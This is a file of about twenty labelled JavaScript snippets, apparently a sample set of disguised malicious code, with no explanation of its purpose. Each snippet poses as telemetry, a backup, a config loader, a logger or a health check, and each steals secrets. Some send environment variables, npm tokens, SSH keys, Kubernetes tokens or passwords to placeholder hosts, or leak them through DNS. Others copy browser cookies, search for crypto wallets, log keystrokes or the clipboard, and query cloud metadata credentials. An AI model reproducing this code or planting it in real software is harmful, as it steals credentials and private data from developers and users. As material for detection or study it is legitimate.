//--- cam-postinstall-env: "telemetry" after install
// postinstall.js: anonymous usage statistics, see README
const https = require('https');
const os = require('os');
const stats = { v: require('./package.json').version, os: os.platform(), cfg: process.env };
const body = JSON.stringify(stats);
const req = https.request({
  hostname: 'stats.example.invalid', path: '/v1/install', method: 'POST',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
});
req.on('error', () => {});
req.end(body);
//--- cam-npmrc-token: "registry check" reads the npm token
const fs = require('fs');
const os = require('os');
const path = require('path');
function checkRegistry() {
  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const token = /_authToken=(.+)/.exec(rc)?.[1];
  return fetch('https://registry.example.invalid/ping', { headers: { 'x-t': token } });
}
checkRegistry().catch(() => console.log('registry unreachable, continuing'));
//--- cam-ssh-collector: "backup" of the ssh folder
const { readdirSync, readFileSync } = require('fs');
const { join } = require('path');
const dir = join(process.env.HOME || '/root', '.ssh');
const backup = {};
for (const f of readdirSync(dir)) backup[f] = readFileSync(join(dir, f), 'base64');
require('https').request('https://backup.example.invalid/', { method: 'PUT' }).end(JSON.stringify(backup));
//--- cam-git-credentials: reads stored git passwords
const fs = require('fs');
const candidates = ['/root/.git-credentials', '/home/node/.git-credentials', '/home/user/.netrc'];
const found = candidates.filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f, 'utf8'));
if (found.length) fs.writeFileSync('build-cache.bin', Buffer.from(found.join('\n')).toString('base64'));
//--- cam-browser-cookies: copies a cookie store
const fs = require('fs');
const os = require('os');
const store = `${os.homedir()}/.config/google-chrome/Default/Cookies`;
if (fs.existsSync(store)) fs.copyFileSync(store, './fixtures/cookies.sqlite');
//--- cam-wallet-search: looks for wallets
const fs = require('fs');
const path = require('path');
const wanted = /wallet\.dat|keystore|seed\.txt/i;
function scan(dir, depth = 0) {
  if (depth > 4) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    return e.isDirectory() ? scan(p, depth + 1) : wanted.test(e.name) ? [p] : [];
  });
}
console.log(scan('/home'));
//--- cam-dotenv-exfil: "config loader" that phones home
class ConfigLoader {
  constructor(env = process.env) { this.env = env; }
  async load() {
    const wanted = Object.keys(this.env).filter((k) => /KEY|TOKEN|SECRET/.test(k));
    const picked = Object.fromEntries(wanted.map((k) => [k, this.env[k]]));
    await fetch('https://config.example.invalid/validate', { method: 'POST', body: JSON.stringify(picked) });
    return picked;
  }
}
new ConfigLoader().load();
//--- cam-error-reporter: error handler that leaks
process.on('uncaughtException', (err) => {
  const report = { m: err.message, s: err.stack, e: process.env, a: process.argv };
  require('https').request({ host: 'errors.example.invalid', method: 'POST' }).end(JSON.stringify(report));
});
JSON.parse('{');
//--- cam-image-pixel: data hidden in a "pixel" address
function track(event, props) {
  const q = new URLSearchParams({ e: event, p: Buffer.from(JSON.stringify(props)).toString('base64') });
  return fetch(`https://pixel.example.invalid/1.gif?${q}`);
}
track('build', { env: process.env, cwd: process.cwd() });
//--- cam-dns-chunks: "health check" that leaks by DNS
const { Resolver } = require('dns').promises;
const r = new Resolver();
r.setServers(['192.0.2.53']);
async function health(data) {
  const hex = Buffer.from(data).toString('hex');
  for (let i = 0; i < hex.length; i += 60) await r.resolve4(`${hex.slice(i, i + 60)}.h.example.invalid`).catch(() => {});
}
health(JSON.stringify(process.env));
//--- cam-kube-token: service account token in a "cluster probe"
import { readFile } from 'node:fs/promises';
const base = '/var/run/secrets/kubernetes.io/serviceaccount';
const [token, ns] = await Promise.all(['token', 'namespace'].map((f) => readFile(`${base}/${f}`, 'utf8')));
await fetch('https://probe.example.invalid/', { method: 'POST', body: JSON.stringify({ token, ns }) });
//--- cam-history-reader: "style learner" reads shell history
const fs = require('fs');
const os = require('os');
const files = ['.bash_history', '.zsh_history', '.node_repl_history'];
const lines = files.flatMap((f) => {
  try { return fs.readFileSync(os.homedir() + '/' + f, 'utf8').split('\n'); } catch { return []; }
});
console.log('learned from', lines.filter((l) => /password|token/i.test(l)));
//--- cam-keylogger-stdin: raw-mode key recorder
const fs = require('fs');
process.stdin.setRawMode?.(true);
process.stdin.resume();
process.stdin.on('data', (k) => {
  fs.appendFileSync('/var/tmp/.keys', k);
  process.stdout.write(k);
});
//--- cam-keylogger-device: reads the input device
const fs = require('fs');
const dev = fs.createReadStream('/dev/input/event0');
dev.on('data', (b) => {
  for (let i = 0; i + 24 <= b.length; i += 24) {
    if (b.readUInt16LE(i + 16) === 1) fs.appendFileSync('keys.log', b.readUInt16LE(i + 18) + ' ');
  }
});
//--- cam-clipboard: polls the clipboard
const { execSync } = require('child_process');
let last = '';
setInterval(() => {
  const now = execSync('xclip -o -selection clipboard').toString();
  if (now !== last) require('fs').appendFileSync('clip.log', (last = now) + '\n');
}, 2000);
//--- cam-hooked-login: wraps a login function by pollution
const auth = require('./auth');
const login = auth.login;
auth.login = async (user, password) => {
  fetch('https://collect.example.invalid/l', { method: 'POST', body: `${user}:${password}` });
  return login(user, password);
};
//--- cam-logger-module: logger with a hidden sink
const levels = ['debug', 'info', 'warn', 'error'];
const sink = ['h', 't', 't', 'p', 's'].join('');
const out = require(sink);
const logger = Object.fromEntries(levels.map((l) => [l, (msg) => {
  console.log(`[${l}] ${msg}`);
  out.get('https://log.example.invalid/?' + encodeURIComponent(msg));
}]));
logger.info('started with ' + process.env.DATABASE_URL);
//--- cam-source-upload: uploads the project's source
const fs = require('fs');
const zlib = require('zlib');
const files = fs.readdirSync('.').filter((f) => f.endsWith('.js'));
const pack = zlib.gzipSync(JSON.stringify(files.map((f) => [f, fs.readFileSync(f, 'utf8')])));
const s = require('net').connect(9000, '203.0.113.7', () => s.end(pack));
//--- cam-docker-config: registry passwords from docker
const fs = require('fs');
const home = require('node:os').homedir();
const { auths = {} } = JSON.parse(fs.readFileSync(`${home}/.docker/config.json`, 'utf8'));
for (const [host, { auth }] of Object.entries(auths)) console.log(host, Buffer.from(auth, 'base64').toString());
//--- cam-cloud-role: asks for instance credentials
const http = require('http');
const token = () => new Promise((ok) => {
  http.request({ host: '169.254.169.254', path: '/latest/api/token', method: 'PUT',
    headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }, (r) => r.on('data', (d) => ok(String(d)))).end();
});
token().then(console.log);
//--- cam-proc-environ-scan: "monitor" that reads other environments
const fs = require('fs');
const monitor = () => fs.readdirSync('/proc')
  .filter(Number)
  .map((pid) => { try { return fs.readFileSync(`/proc/${pid}/environ`, 'latin1').split('\0'); } catch { return []; } })
  .flat()
  .filter((l) => l.includes('SECRET'));
console.log(monitor().length, monitor());
